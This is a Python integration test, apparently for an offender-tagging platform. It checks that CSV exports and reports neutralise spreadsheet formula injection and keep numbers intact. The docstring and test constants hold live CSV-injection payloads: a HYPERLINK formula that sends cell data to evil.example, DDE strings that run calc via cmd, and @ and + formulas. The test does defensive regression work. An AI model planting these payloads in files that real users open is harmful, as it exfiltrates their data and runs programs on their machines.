"""Attack: CSV (formula) injection through the exports and reports a supervisor opens in a
spreadsheet.

Whoever can put text into the platform - a subject's name or case reference typed from a court
paper, an operator's user name, a note on an alert - writes a spreadsheet formula there:
``=HYPERLINK("http://evil.example/?"&A1, ...)`` sends the sheet's cells to a stranger when
clicked, ``+cmd|' /C calc'!A0`` runs a program in old Excel (DDE), ``@SUM(...)`` and ``-...``
evaluate as well. The attacker then waits for a supervisor to download the subject's export or
the absconders report as CSV and open it.

Every CSV the API serves is downloaded over HTTP and parsed with the csv module: no text cell
may start with ``= + - @``, a tab or a carriage return (the payloads come back with a leading
single quote, OWASP's neutralization), while numbers stay numbers (a latitude of -33.9).
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta

import psycopg
import pytest

from tagwatch.api.csv_cells import FORMULA_TRIGGERS
from tests.support import fresh_id

pytestmark = pytest.mark.integration

PASSWORD = "csv-pass-word-1"
SUBJECT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
CASE_REF = "@SUM(1+1)*cmd|' /C calc'!A0"
DECLARATION = "=cmd|' /C calc'!A0"
RESOLUTION = "+SUM(A1:A9)-1"
LAT, LON = -33.9, -70.6


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture(scope="module")
def planted(api, login, settings) -> dict:
    """A region, a subject named with formulas, an operator whose user name is one, fixes at
    negative coordinates, and an absconder declared and resolved with formula notes."""
    admin = login("admin", ["*"])
    region = fresh_id("csvr")
    assert api.post(
        "/api/v1/regions", json={"id": region, "name": region}, headers=admin
    ).is_success
    evil_operator = f"@evil+{fresh_id('op')}"
    created = api.post(
        "/api/v1/users",
        json={
            "username": evil_operator,
            "role": "operator",
            "regions": [region],
            "password": PASSWORD,
        },
        headers=admin,
    )
    assert created.status_code == 201, created.text
    subject = api.post(
        "/api/v1/subjects",
        json={"name": SUBJECT_NAME, "case_ref": CASE_REF, "region_id": region},
        headers=admin,
    )
    assert subject.status_code == 201, subject.text
    subject_id = subject.json()["id"]
    device = fresh_id("-csvtag")  # a device id may start with '-' too
    now = datetime.now(UTC)
    with psycopg.connect(settings.database_url) as conn:
        conn.execute("INSERT INTO devices (id, kind) VALUES (%s, 'tag')", (device,))
        conn.execute(
            "INSERT INTO device_assignments (device_id, subject_id, role, during)"
            " VALUES (%s, %s, 'offender', tstzrange(%s, NULL))",
            (device, subject_id, now - timedelta(hours=2)),
        )
        for minutes in (90, 60, 30):
            conn.execute(
                "INSERT INTO fixes (device_id, ts, seq, lat, lon, acc)"
                " VALUES (%s, %s, %s, %s, %s, 8)",
                (device, now - timedelta(minutes=minutes), minutes, LAT, LON),
            )
    token = api.post(
        "/api/v1/auth/token", data={"username": evil_operator, "password": PASSWORD}
    ).json()["access_token"]
    operator = {"Authorization": f"Bearer {token}"}
    declared = api.post(
        f"/api/v1/subjects/{subject_id}/absconder", json={"note": DECLARATION}, headers=operator
    )
    assert declared.status_code == 201, declared.text
    alert_id = declared.json()["alert_id"]
    resolved = api.post(
        f"/api/v1/alerts/{alert_id}/resolve",
        json={"outcome": "other", "note": RESOLUTION},
        headers=operator,
    )
    assert resolved.status_code == 200, resolved.text
    return {
        "admin": admin,
        "region": region,
        "subject_id": subject_id,
        "device": device,
        "operator": evil_operator,
        "from": (now - timedelta(days=1)).isoformat(),
        "to": (now + timedelta(hours=1)).isoformat(),
        "month": now.strftime("%Y-%m"),
    }


def _downloads(api, planted: dict) -> dict[str, str]:
    """Every CSV the API serves for the planted data, as a supervisor downloads them."""
    headers = planted["admin"]
    window = {"from": planted["from"], "to": planted["to"]}
    url = f"/api/v1/subjects/{planted['subject_id']}/export"
    files: dict[str, str] = {}
    archive = api.get(url, params={**window, "format": "csv"}, headers=headers)
    assert archive.status_code == 200, archive.text
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zipped:
        for name in zipped.namelist():
            files[f"export.zip/{name}"] = zipped.read(name).decode()
    for kind in ("fixes", "events", "alerts"):
        one = api.get(url, params={**window, "format": "csv", "kind": kind}, headers=headers)
        assert one.status_code == 200, one.text
        files[f"export-{kind}.csv"] = one.text
    region = planted["region"]
    report = api.get(
        "/api/v1/reports/absconders",
        params={"region": region, **window, "format": "csv"},
        headers=headers,
    )
    assert report.status_code == 200, report.text
    files["absconders.csv"] = report.text
    compliance = api.get(
        "/api/v1/reports/compliance",
        params={"region": region, "month": planted["month"]},
        headers={**headers, "Accept": "text/csv"},
    )
    assert compliance.status_code == 200, compliance.text
    files["compliance.csv"] = compliance.text
    return files


def test_no_csv_cell_starts_a_formula_and_numbers_stay_numbers(api, planted):
    files = _downloads(api, planted)
    cells = {name: [c for row in _rows(text) for c in row] for name, text in files.items()}
    dangerous = [
        (name, cell)
        for name, all_cells in cells.items()
        for cell in all_cells
        if cell.startswith(FORMULA_TRIGGERS) and not _is_number(cell)
    ]
    payloads = sum(1 for all_cells in cells.values() for cell in all_cells if cell.startswith("'"))
    print(
        f"\nCSV injection: {len(files)} CSVs downloaded, {sum(map(len, cells.values()))} cells,"
        f" {payloads} neutralized with a leading quote, {len(dangerous)} would run as formulas"
    )
    assert dangerous == []
    # the planted text is all there, shown literally
    fixes = _rows(files["export-fixes.csv"])
    assert fixes[1][0] == "'" + planted["device"]
    assert {(row[3], row[4]) for row in fixes[1:]} == {(str(LAT), str(LON))}
    absconders = _rows(files["absconders.csv"])
    header, row = absconders[0], absconders[1]
    assert row[header.index("subject_name")] == "'" + SUBJECT_NAME
    assert row[header.index("case_ref")] == "'" + CASE_REF
    assert row[header.index("declared_by")] == "'" + planted["operator"]
    alerts = _rows(files["export-alerts.csv"])
    note = alerts[1][alerts[0].index("resolution_note")]
    assert note == "'" + RESOLUTION
    assert alerts[1][alerts[0].index("resolved_by")] == "'" + planted["operator"]
